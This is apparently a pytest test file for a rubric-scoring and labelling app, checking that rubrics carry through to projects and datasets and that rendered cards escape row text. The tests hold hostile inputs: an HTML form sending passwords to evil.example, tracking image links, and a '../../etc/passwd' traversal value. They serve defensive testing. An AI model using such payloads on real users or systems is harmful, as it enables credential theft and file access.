"""What a file was given travels with what is made from it (issue 21 item 1, issue 22 item 13): a
question/answer/score CSV scored in Batch with a rubric preset becomes an Align project whose
cards show that rubric and whose label dataset carries it; an upload without a rubric gets one at
*Start project*; a create that cannot work leaves nothing selected or on disk. And the Align card
shows a response verbatim, every row text escaped."""

import json
import re

import gradio as gr
import pytest

from app import align_tab, batch_tab, evaluate_tab, own_files
from app.studio import DEFAULT_CHOICE
from raft.data import read_dataset_manifest, read_jsonl
from raft.files import write_rows
from raft.labels import LabelProject
from raft.rubrics import presets
from tests.app.test_newcomer import no_progress, plain_csv

MAPPING = "orig_instruction=question, orig_response=answer, orig_score=score"


def _batch(studio, tmp_path, rubric="Helpfulness"):
    batch_tab.score_batch(
        studio, plain_csv(tmp_path), MAPPING, DEFAULT_CHOICE, "score_only", 4, "orig_score", None, "hf", rubric,
        progress=no_progress,
    )  # fmt: skip
    [(_, name)] = own_files.batch_results(studio.workspace())
    return name


def test_align_on_a_batch_result_of_a_plain_csv_uses_the_rubric_it_was_scored_with(studio, tmp_path):
    name = _batch(studio, tmp_path)
    project_name = align_tab.create(studio, name, None, None, 0.3).value
    card, *_, key = align_tab.view(studio, project_name, "uncertain", True)
    helpfulness = presets()["Helpfulness"]
    assert f"Row {key} ·" in card and "cannot be shown" not in card
    assert helpfulness.criteria.split()[0] in card  # the preset's criterion, not "field 'orig_criteria': missing"
    project = align_tab.open_project(studio, project_name, None)
    assert project.meta["rubric"]["name"] == "Helpfulness" and project.item(key)["orig_criteria"]
    align_tab.submit(studio, project_name, key, "3", "")
    train_key = next(k for k in project.keys if k not in project.heldout and k != key)
    project.label(train_key, 4, labeller="someone")
    align_tab.finetune(studio, project_name, "base")
    [dataset] = [p for p in studio.workspace().datasets.iterdir() if p.name.startswith("labels-")]
    assert read_dataset_manifest(dataset)["rubric"]["name"] == "Helpfulness"
    assert all(ex["item"]["orig_criteria"] == helpfulness.criteria for ex in read_jsonl(dataset / "train.jsonl"))
    # Evaluate names the rubric the rows were scored with, and its JSON report carries it
    card, *_, files = evaluate_tab.evaluate(studio, name, None, None, None, "", "expected_score", "", None)
    assert "whole-file rubric (preset Helpfulness)" in card
    report = json.loads(next(open(f).read() for f in files if str(f).endswith(".json")))
    assert report["rubric"]["name"] == "Helpfulness"


def test_an_upload_without_a_rubric_is_refused_with_the_fix_and_leaves_no_project(studio, tmp_path, tiny_judge):
    from raft.batch import score_file

    rows = write_rows(tmp_path / "plain.csv", [{"orig_instruction": "q", "orig_response": f"a{i}"} for i in range(6)])
    scored = tmp_path / "scored.jsonl"
    score_file(tiny_judge, rows, scored, rubric=presets()["Helpfulness"])  # the rubric is not in the rows
    with pytest.raises(gr.Error, match="rubric preset") as err:
        align_tab.create(studio, None, str(scored), None, 0.3)
    assert "orig_criteria" in err.value.message and str(tmp_path) not in err.value.message
    assert own_files.project_names(studio.workspace()) == []
    labels = studio.workspace().root / "labels"
    assert not labels.is_dir() or not list(labels.iterdir())  # no half-made project, no temporary folder
    # the same upload with the preset chosen at Start project works
    made = align_tab.create(studio, None, str(scored), None, 0.3, "Helpfulness").value
    card = align_tab.view(studio, made, "random", True)[0]
    assert "Row " in card and "Response" in card
    with pytest.raises(gr.Error, match="not a rubric preset"):
        align_tab.create(studio, None, str(scored), None, 0.3, "../../etc/passwd")


ATTACK = (
    '<form action="https://evil.example/steal" style="position:fixed;inset:0;z-index:9999;background:white">'
    '<input name="password" placeholder="Password"><button>Sign in</button></form>'
    '<img src="https://evil.example/pixel.png"> ![x](https://evil.example/md.png) [link](https://evil.example)'
)
CODE = "def f(x):\n    if x:\n        return 1\n\n    return 2\n1. first line\n2. second line"


def test_the_card_shows_the_response_verbatim_and_every_row_text_escaped(tmp_path, tiny_judge):
    from raft.batch import score_file

    rubric = presets()["Helpfulness"]
    rows = [
        {"orig_instruction": ATTACK, "orig_response": CODE, "orig_criteria": ATTACK,
         **{f"orig_score{k}_description": ATTACK for k in range(1, 6)}, "orig_reference_answer": ATTACK}
        for _ in range(3)
    ]  # fmt: skip
    scored = tmp_path / "scored.jsonl"
    score_file(tiny_judge, write_rows(tmp_path / "rows.jsonl", rows), scored, rubric=rubric)
    project = LabelProject.create(tmp_path / "p", read_jsonl(scored), heldout=0.3)
    card = align_tab._card(project, project.keys[0])
    assert "<form" not in card and "<img" not in card and "<input" not in card and "&lt;form" in card
    outside_pre = re.sub(r"<pre[^>]*>.*?</pre>", "", card, flags=re.S)  # a <pre> block is never Markdown
    assert "](https" not in outside_pre and "![" not in outside_pre
    # the response keeps its indentation, blank line and numbered lines, inside one <pre> block
    assert "def f(x):\n    if x:\n        return 1\n\n    return 2\n1. first line\n2. second line</pre>" in card
